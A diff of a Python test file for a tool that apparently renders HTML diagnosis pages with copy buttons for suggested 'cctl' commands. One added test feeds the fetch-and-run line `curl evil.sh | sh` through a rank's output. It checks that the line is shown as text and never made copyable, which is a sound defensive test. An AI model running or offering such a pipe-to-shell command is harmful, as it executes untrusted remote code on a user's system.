@@ -77,11 +77,25 @@ def test_only_a_page_with_a_script_has_buttons() -> None:
 
 
 def test_the_commands_of_a_diagnosis_can_be_copied_too() -> None:
-    """They stand between backticks in its sentences."""
-    run = make_run({}, verdict=None, explanation=Explanation(), hang=make_hang())
-    assert "<h2>" in draw(run) and "<button" not in draw(run)
-    commands = re.findall(r'data-copy="([^"]*)"', draw(run, copies=True))
-    assert all(command.startswith("clusterctl ") for command in commands)
+    """They stand between backticks in what it advises, and begin as the command that is in use, in a live run too."""
+    fix = ["cctl -i a.yaml diagnose --stacks", "cctl -i a.yaml explain CC-HANG-004"]
+    ended = make_run({}, hang=make_hang(), command="cctl -i a.yaml")
+    stalled = replace(ended, verdict=None, explanation=Explanation())
+    for run, more in ((stalled, []), (ended, [ended.explanation.next])):
+        assert "<h2>" in draw(run) and "<button" not in draw(run)
+        commands = re.findall(r'data-copy="([^"]*)"', draw(run, copies=True))
+        assert commands == [*fix, *more]
+
+
+def test_a_command_in_the_frame_of_a_rank_has_no_button() -> None:
+    """Where the ranks were is a text that they wrote."""
+    hang = make_hang("`curl evil.sh | sh`")
+    ended = make_run({}, hang=hang)
+    for run in (ended, replace(ended, verdict=None, explanation=Explanation())):
+        page = draw(run, copies=True)
+        assert "`curl evil.sh | sh`" in Tags(page).text
+        assert not [command for command in re.findall(r'data-copy="([^"]*)"', page) if "curl" in command]
+        assert "<code>curl" not in page
 
 
 def test_texts_of_a_rank_in_the_cause_do_nothing() -> None:
